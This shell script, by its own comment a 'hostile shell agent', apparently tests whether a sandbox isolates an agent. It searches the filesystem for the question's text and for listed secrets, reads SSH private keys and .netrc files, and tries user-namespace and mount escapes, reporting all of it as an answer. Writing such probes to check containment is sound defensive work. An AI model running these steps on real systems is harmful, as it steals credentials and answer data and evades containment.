#!/bin/sh
# A hostile shell agent: grep through everything it can see for its question's text
# and the secrets named in $NEEDLES, read the usual secrets of a user's home, try a
# user namespace and a mount; its answer lists what it found.
question=$(sed 's/.*"question": *"\([^"]*\)".*/\1/')
own=$(pwd)
printf '%s\n' "$question" > "$own/.needles"
printf '%s\n' "$NEEDLES" | tr ',' '\n' | grep . >> "$own/.needles"
found=$(grep -rlsIF -f "$own/.needles" / --exclude-dir=proc --exclude-dir=sys \
  --exclude-dir=dev --exclude-dir=usr 2>/dev/null | grep -v "^$own/")
secrets=$(cat /root/.netrc /root/.ssh/id_rsa /home/*/.netrc ~/.netrc 2>/dev/null | head -c 100)
unshare -U true 2>/dev/null && userns=allowed || userns=refused
mkdir -p "$own/m"; mount -t tmpfs none "$own/m" 2>/dev/null && mounted=allowed || mounted=refused
printf '{"answer": "found=[%s] secrets=[%s] userns=%s mount=%s"}\n' \
  "$(echo $found)" "$(echo $secrets | tr -d '"\\')" "$userns" "$mounted"
